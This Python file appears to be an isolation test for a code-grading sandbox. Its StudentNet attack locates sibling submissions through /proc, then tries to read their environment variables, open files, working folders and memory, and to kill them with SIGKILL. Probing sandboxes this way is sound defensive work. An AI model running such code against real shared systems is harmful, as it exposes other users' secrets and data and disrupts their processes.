# Finds the submissions that are graded beside it, as children of its parent, reads and kills them.
# expect: graded
# everywhere: without namespaces they can be seen
import ctypes
import os
import signal

from attack import Attack, attempt, content, libc, say, syscall

PIDFD_OPEN, READV = 434, 310


class StudentNet(Attack):
    def attack(self):
        buffer = ctypes.create_string_buffer(64)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
        remote = (ctypes.c_size_t * 2)(ctypes.cast(libc.getpid, ctypes.c_void_p).value, 64)
        for pid in self.siblings():
            say(f"a sibling: {pid}")
            attempt("its environment", content, f"/proc/{pid}/environ")
            attempt("its files", os.listdir, f"/proc/{pid}/fd")
            attempt("its folder", os.listdir, f"/proc/{pid}/cwd")
            attempt("its memory", syscall, READV, pid, ctypes.addressof(local), 1, ctypes.addressof(remote), 1, 0)
            attempt("a handle on it", syscall, PIDFD_OPEN, pid, 0)
            attempt("its life", os.kill, pid, signal.SIGKILL)

    def siblings(self):
        parent = os.getppid()
        try:
            children = open(f"/proc/{parent}/task/{parent}/children").read().split()
        except OSError as error:
            say(f"held: {error}")
            return []
        return [pid for pid in map(int, children) if pid != os.getpid()]
